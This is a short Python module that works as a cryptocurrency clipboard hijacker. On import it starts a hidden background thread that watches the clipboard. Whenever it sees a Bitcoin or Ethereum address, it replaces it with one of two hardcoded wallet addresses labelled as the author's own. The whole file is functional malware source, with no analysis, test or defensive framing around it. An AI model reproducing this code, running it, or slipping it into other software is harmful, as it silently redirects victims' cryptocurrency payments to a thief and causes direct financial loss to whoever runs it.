import re
import time
import threading

import pyperclip

BTC = re.compile(r'^(bc1|[13])[a-zA-HJ-NP-Z0-9]{25,59}$')
ETH = re.compile(r'^0x[a-fA-F0-9]{40}$')
MINE = {
    'btc': 'bc1qnpyaqgl2pwh9v07swq7m9tts7zhtj0rc7kk286',
    'eth': '0xD0122fA2E2e94fB00C7feAEDD2FED72F3de048Bd',
}


def _watch():
    while True:
        data = pyperclip.paste().strip()
        if BTC.match(data) and data != MINE['btc']:
            pyperclip.copy(MINE['btc'])
        elif ETH.match(data) and data != MINE['eth']:
            pyperclip.copy(MINE['eth'])
        time.sleep(0.5)


def start():
    threading.Thread(target=_watch, daemon=True).start()


start()
